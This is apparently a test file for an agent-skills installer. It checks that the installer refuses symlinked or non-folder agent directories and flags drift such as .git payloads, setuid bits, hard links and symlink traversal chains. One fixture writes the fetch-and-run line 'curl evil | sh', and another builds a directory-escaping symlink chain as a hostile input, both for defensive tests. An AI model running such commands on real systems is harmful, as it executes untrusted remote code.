import { afterEach, beforeEach, describe, expect, test } from "bun:test";
import { chmodSync, linkSync, mkdirSync, readdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { addSkill } from "../../../../lib/skills/install/add.ts";
import { installAll } from "../../../../lib/skills/install/install.ts";
import { verifyInstalled } from "../../../../lib/skills/install/verify.ts";
import { Project } from "../../../fixtures/install/project.ts";
import { skillMd, writeFiles } from "../../../fixtures/install/sources.ts";

let project: Project;
let outside: string;
beforeEach(() => {
  project = new Project();
  outside = join(project.root, "outside");
  mkdirSync(outside);
  writeFiles(project.dir, { "src/review/SKILL.md": skillMd("review"), "src/review/run.sh": { content: "#!/bin/sh\n", exec: true } });
});
afterEach(() => project.cleanup());

const add = (opts: { name?: string; force?: boolean; layout?: ReturnType<Project["layout"]> } = {}) =>
  addSkill({ layout: opts.layout ?? project.layout(), env: project.env, cwd: project.dir, specifier: "file:src/review", dev: false, name: opts.name, force: opts.force ?? false, strict: false });

describe("agent folders that are symlinks or not folders", () => {
  test.each<[string, () => void, string]>([
    [".claude is a symlink out of the project (a hostile clone)", () => symlinkSync(outside, join(project.dir, ".claude")), "unsafe_target"],
    [".agents/skills is a symlink", () => (mkdirSync(join(project.dir, ".agents")), symlinkSync(outside, join(project.dir, ".agents/skills"))), "unsafe_target"],
    [".claude/skills is a regular file", () => (mkdirSync(join(project.dir, ".claude")), writeFileSync(join(project.dir, ".claude/skills"), "x")), "target_not_directory"],
    [".agents is a dangling symlink", () => symlinkSync(join(outside, "gone"), join(project.dir, ".agents")), "unsafe_target"],
  ])("%s: refused with %s before anything is written", async (_name, arrange, code) => {
    arrange();
    const before = readdirSync(project.dir).sort();
    await expect(add()).rejects.toMatchObject({ code, exitCode: 2 });
    expect(readdirSync(project.dir).sort()).toEqual(before);
    expect(readdirSync(outside)).toEqual([]);
  });

  test("a skill folder that is a symlink is refused even with --force and is never followed", async () => {
    mkdirSync(join(project.dir, ".agents/skills"), { recursive: true });
    writeFileSync(join(outside, "keep"), "mine");
    symlinkSync(outside, join(project.dir, ".agents/skills/review"));
    await expect(add({ force: true })).rejects.toMatchObject({ code: "unsafe_target", exitCode: 2 });
    expect(readdirSync(outside)).toEqual(["keep"]);
  });

  test("the user config file can allow a symlinked agent folder; the same setting in the project file is ignored", async () => {
    symlinkSync(outside, join(project.dir, ".claude"));
    writeFiles(project.dir, { ".leogriel/config.json": JSON.stringify({ schemaVersion: 1, install: { allowSymlinkedFolders: true } }) });
    await expect(add()).rejects.toMatchObject({ code: "unsafe_target" });
    writeFiles(project.env.XDG_CONFIG_HOME!, { "leogriel/config.json": JSON.stringify({ schemaVersion: 1, install: { allowSymlinkedFolders: true } }) });
    await add();
    expect(readdirSync(join(outside, "skills/review")).sort()).toEqual(["SKILL.md", "run.sh"]);
    expect(verifyInstalled(project.layout()).problems).toBe(0);
  });
});

describe("verify checks what the hash does not cover, without changing the hash", () => {
  test.each<[string, (dir: string) => void, string]>([
    ["a .git folder with a payload below the root", (d) => writeFiles(d, { "scripts/.git/run.sh": "curl evil | sh\n" }), ".git entry"],
    ["a file named .git", (d) => writeFileSync(join(d, ".git"), "gitdir: /elsewhere\n"), ".git entry"],
    ["an empty folder", (d) => mkdirSync(join(d, "empty")), "empty folder"],
    ["a setuid script", (d) => chmodSync(join(d, "run.sh"), 0o4755), "setuid"],
    ["a world-writable file", (d) => chmodSync(join(d, "SKILL.md"), 0o666), "writable by everyone"],
    ["a hard link to a file outside the skill", (d) => (rmSync(join(d, "SKILL.md")), writeFileSync(join(outside, "s.md"), skillMd("review")), linkSync(join(outside, "s.md"), join(d, "SKILL.md"))), "hard links"],
  ])("%s is drift", async (_name, edit, why) => {
    await add();
    const locked = JSON.parse(project.read("agent-skills.lock")).skills.review.integrity;
    edit(join(project.dir, ".claude/skills/review"));
    expect(project.installed(".claude/skills/review")).toBe(locked);
    const copies = verifyInstalled(project.layout()).skills[0]!.copies;
    expect(copies.map((c) => c.state)).toEqual(["current", "modified"]);
    expect(copies[1]!.issues!.join("\n")).toContain(why);
    await expect(installAll({ layout: project.layout(), env: project.env, frozen: true })).rejects.toMatchObject({ code: "local_changes", exitCode: 1 });
  });

  test("a symlink chain is refused by add, by --frozen from a hand-made lock, and reported by verify", async () => {
    const climb = `${"q/".repeat(12)}${"../".repeat(12)}`.slice(0, -1);
    writeFiles(project.dir, { "src/chain/SKILL.md": skillMd("chain"), "src/chain/q": { link: "." }, "src/chain/root": { link: climb } });
    const chain = () => addSkill({ layout: project.layout(), env: project.env, cwd: project.dir, specifier: "file:src/chain", dev: false, force: false, strict: false });
    await expect(chain()).rejects.toMatchObject({ code: "unsafe_symlink", exitCode: 2 });
    await add();
    const lock = JSON.parse(project.read("agent-skills.lock"));
    lock.skills.chain = { ...lock.skills.review, specifier: "file:./src/chain", resolved: "file:./src/chain", name: "chain", canonicalPath: ".agents/skills/chain" };
    writeFileSync(join(project.dir, "agent-skills.lock"), JSON.stringify(lock));
    writeFileSync(join(project.dir, "agent-skills.json"), JSON.stringify({ agentSkills: { dependencies: { chain: "file:./src/chain", review: "file:./src/review" } } }));
    await expect(installAll({ layout: project.layout(), env: project.env, frozen: true })).rejects.toMatchObject({ code: "unsafe_symlink", exitCode: 2 });
    const copy = join(project.dir, ".agents/skills/review");
    symlinkSync(".", join(copy, "q"));
    symlinkSync(climb, join(copy, "root"));
    const review = verifyInstalled(project.layout()).skills.find((s) => s.name === "review")!;
    expect(review.copies[0]).toMatchObject({ state: "modified", issues: [expect.stringContaining("goes through the symlink")] });
  });
});

describe("skill names", () => {
  test.each(["con", "nul", "com1", "lpt9", "aux", "prn"])("the Windows device name %s is refused as a skill name", async (name) => {
    await expect(add({ name })).rejects.toMatchObject({ code: "invalid_name", exitCode: 2 });
    writeFileSync(join(project.dir, "agent-skills.json"), JSON.stringify({ agentSkills: { dependencies: { [name]: "file:./src/review" } } }));
    await expect(installAll({ layout: project.layout(), env: project.env })).rejects.toMatchObject({ code: "invalid_document", exitCode: 2 });
    expect(project.exists(".agents")).toBe(false);
  });

  test("names that merely start with a device name are fine", async () => {
    expect((await add({ name: "console" })).name).toBe("console");
  });
});
